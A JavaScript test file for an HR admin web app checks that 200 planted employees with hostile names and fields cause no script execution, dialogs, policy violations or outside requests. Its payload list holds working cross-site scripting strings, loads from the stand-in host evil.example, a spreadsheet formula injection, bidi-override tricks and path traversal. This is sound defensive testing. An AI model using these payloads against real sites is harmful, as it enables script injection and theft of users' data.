// SPDX-License-Identifier: MIT
// A-09: 200 employees whose texts are attacks, through every page: no script of theirs runs, no
// dialog opens, the content security policy has nothing to refuse.
import assert from "node:assert/strict";
import { after, afterEach, before, test } from "node:test";
import { World, closeBrowser, fits, openPage, until } from "./harness.mjs";
import { closePages } from "./look.mjs";
import { everyPage, visit } from "./pages.mjs";

const PEOPLE = 200;

// What is tried, each with window.struck() as the proof that it worked. N becomes a number.
const PAYLOADS = [
  `<svg onload=struck(N)>`,
  `<svg/onload=struck(N)//`,
  `<img src=x onerror=struck(N)>`,
  `<img src="/healthz" onerror="struck(N)" onload="struck(N)">`,
  `"><script>struck(N)</script>`,
  `'><script src=//evil.example/N.js></script>`,
  `</title></style></textarea></select></script><script>struck(N)</script>`,
  `<iframe srcdoc="<script>parent.struck(N)</script>">`,
  `<a href="javascript:struck(N)">Ada</a>`,
  `javascript:struck(N)`,
  `<details open ontoggle=struck(N)>`,
  `<input autofocus onfocus=struck(N)>`,
  `<style>@import'//evil.example/N.css';</style>`,
  `<link rel=stylesheet href=//evil.example/N.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/N">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example/><button>N</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=struck(N)>`,
  `\${struck(N)} {{struck(N)}} <%= struck(N) %>`,
  `" onmouseover="struck(N)" autofocus onfocus="struck(N)`,
  `' onmouseover='struck(N)`,
  `\u202eevE\u202c N`,
  `\u2066\u2067Ada\u2069 N`,
  `\u200f\u200eN\ufeff`,
  `A\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308N`,
  `'"\`<>&;\\/N`,
  `&lt;svg onload=struck(N)&gt; &#60;img src=x onerror=struck(N)&#62;`,
  `__proto__`,
  `constructor`,
  `=HYPERLINK("//evil.example/N")`,
  `https://evil.example/N`,
  `..%2f..%2fapi%2fv1%2fpause?N#`,
  `${"W".repeat(250)}N`,
  `${"long ".repeat(800)}N`,
  `${"<b>".repeat(20000)}N`,
];
const MARKED = 0; // whose name is looked for on each page
const payload = (n) => PAYLOADS[n % PAYLOADS.length].replaceAll("N", String(n));

let world, people, marked;

async function plant(n) {
  const text = payload(n);
  const domain = n % 10 === 3 ? "elsewhere.example" : "example.com"; // some are held, and listed as such
  return world.sandbox("POST", "/bob/employees", {
    "root.firstName": text, "root.surname": `Hostile ${n} ${payload(n + 7).slice(0, 300)}`,
    "root.displayName": text, "root.email": `hostile.${n}@${domain}`,
    "work.title": payload(n + 1).slice(0, 200), "work.department": payload(n + 2).slice(0, 120),
  });
}

// Humans' own words are as hostile as HR's.
async function say(id, n) {
  await world.api("POST", `/people/${id}/hold`, { why: payload(n).slice(0, 120), by: payload(n + 3).slice(0, 60) }).catch(() => {});
}

const everybody = async () => {
  const all = [];
  for (let after = null; ;) {
    const list = await world.api("GET", `/people?limit=500${after ? `&after=${after}` : ""}`);
    all.push(...list.people);
    after = list.next_after;
    if (!after) return all;
  }
};

before(async () => {
  const most = { per_hour: 10000, per_day: 10000, per_week: 10000 };
  world = await World.start({ settings: { limits: { create: { per_hour: 10000 }, lower: most } } });
  const planted = [];
  for (let n = 0; n < PEOPLE; n++) planted.push((await plant(n)).id);
  const id = planted[MARKED];
  await world.sandbox("POST", `/bob/employees/${id}/terminate`, { at: new Date(Date.now() + 3 * 86400000).toISOString().slice(0, 10) });
  await world.sandbox("POST", "/okta/groups", { name: payload(0) });
  await world.api("POST", "/sweep");
  await until(async () => (await everybody()).length >= PEOPLE, "the sweep has found everybody", 60000);
  await until(async () => {
    const { dirty, working } = (await world.api("GET", "/status")).connections[0].employees;
    return dirty + working === 0;
  }, "nobody is worked on", 60000);
  people = await everybody();
  marked = { id, name: payload(MARKED), why: payload(MARKED + 2) };
  await world.api("POST", `/people/${id}/hold`, { why: marked.why, by: "hr" });
  for (const [n, one] of people.filter((other) => other.employee_id !== id).slice(0, 12).entries()) await say(one.employee_id, n);
});
afterEach(closePages);
after(async () => { await closeBrowser(); await world.stop(); });

// Whatever one of them brings about lands in page.struck: a call, or a violation of the policy.
async function openWatched(more = {}) {
  const page = await openPage(world, more);
  page.struck = [];
  await page.exposeFunction("struck", (what) => { page.struck.push(`executed ${what}`); });
  await page.exposeFunction("violated", (what) => { page.struck.push(`violation ${what}`); });
  await page.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => window.struck(name);
    document.addEventListener("securitypolicyviolation", (event) =>
      window.violated(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(world.admin + "/")) page.struck.push(`asked ${request.url()}`);
  });
  page.on("popup", (popup) => page.struck.push(`opened ${popup.url()}`));
  await page.reload();
  await page.locator("main h1").waitFor();
  return page;
}

const foreign = () => [...document.querySelectorAll("#app script, #app iframe, #app base, #app style, #app svg[onload], #app img[onerror], #app meta")]
  .map((one) => one.outerHTML.slice(0, 200));

async function unharmed(page, where) {
  assert.deepEqual(page.struck, [], where);
  assert.deepEqual(page.complaints, [], where);
  assert.deepEqual(await page.evaluate(foreign), [], where);
}

test("the watch itself works", async () => {
  const page = await openWatched({ as: "admin" });
  await page.evaluate(() => {
    const box = document.createElement("div");
    box.innerHTML = "<img src=/no-such-picture onerror=struck(1)>";
    document.body.append(box);
  });
  await until(() => page.struck.some((one) => one.startsWith("violation")), "the policy refused the planted handler");
  assert.ok(page.complaints.length > 0, "the browser said so as well");
});

test("every page, and the page of each of 200 hostile employees", async (t) => {
  assert.ok(people.length >= PEOPLE);
  const page = await openWatched({ as: "admin" });
  for (const { hash } of everyPage({ id: people[0].employee_id })) {
    await visit(page, hash);
    await unharmed(page, hash);
  }
  let shown = 0;
  for (const one of people) {
    assert.ok(await visit(page, `/people/${one.employee_id}`), `the page of ${one.employee_id} is loaded`);
    await unharmed(page, `/people/${one.employee_id} ${one.display_name?.slice(0, 80)}`);
    shown += /struck|evil\.example|Hostile/.test(await page.locator("main").innerText()) ? 1 : 0;
  }
  t.diagnostic(`${people.length} pages, ${shown} with the text of an attack on them`);
  assert.ok(shown > PEOPLE / 2, "their texts are shown, as texts");
});

// That nothing ran proves something only where the attack stands, letter by letter.
test("an attack is read as a text wherever a name is shown", async () => {
  const { id, name } = marked;
  const page = await openWatched({ as: "admin" });
  const sees = async (locator, where) => {
    await locator.first().waitFor().catch((error) => { throw new Error(`${name} is not to be read in ${where}: ${error.message}`); });
    await unharmed(page, where);
  };
  const main = page.locator("main");
  const link = main.getByRole("link", { name, exact: true });

  await visit(page, "/people");
  await page.getByRole("searchbox").fill(id);
  await sees(link, "the list of people");
  await visit(page, `/people/${id}`);
  await sees(page.getByRole("heading", { level: 1, name, exact: true }), "the person's page");
  await visit(page, "/overview");
  await sees(page.getByRole("region", { name: "The next 7 days" }).getByRole("link", { name, exact: true }), "the calendar");
  await visit(page, "/held");
  await page.getByRole("searchbox").fill(id);
  await sees(link, "the held");
  await sees(main.getByText(marked.why), "why somebody is held");
  await visit(page, "/activity");
  await sees(main.getByText(marked.why), "the audit trail");
  await visit(page, "/mapping");
  await page.getByRole("combobox", { name: "Person" }).fill(id);
  await page.getByRole("option").filter({ hasText: name }).click();
  await sees(page.getByRole("columnheader", { name: `For ${name}`, exact: true }), "the preview's column");
  await page.getByRole("button", { name: `Show values of ${name}` }).click();
  await sees(page.getByRole("heading", { name: `Show the values of ${name}` }), "a dialog's title");
  await page.getByRole("dialog").getByLabel("What for").fill(marked.why);
  await page.getByRole("dialog").getByRole("button", { name: "Show values" }).click();
  await sees(page.getByRole("row").filter({ hasText: "displayName" }).getByText(name), "the preview's values");
});

test("they are found, listed and hovered over without harm, also on a narrow screen", async () => {
  for (const more of [{ as: "admin" }, { as: "viewer", width: 375, height: 700, colorScheme: "dark" }]) {
    const page = await openWatched(more);
    await visit(page, "/people");
    const search = page.getByRole("searchbox");
    for (const text of ["<svg onload", "Hostile 7", "\u202e", "%"]) {
      if ((await search.count()) !== 1) break;
      await search.fill(text);
      await page.waitForLoadState("networkidle").catch(() => {});
      await unharmed(page, `search for ${text}`);
    }
    for (const hash of ["/people", "/held", "/activity", "/overview"]) {
      await visit(page, hash);
      for (const row of await page.locator("main tbody tr").all().then((rows) => rows.slice(0, 20))) {
        await row.hover({ timeout: 2000 }).catch(() => {});
      }
      await fits(page, hash);
      await unharmed(page, hash);
    }
  }
});
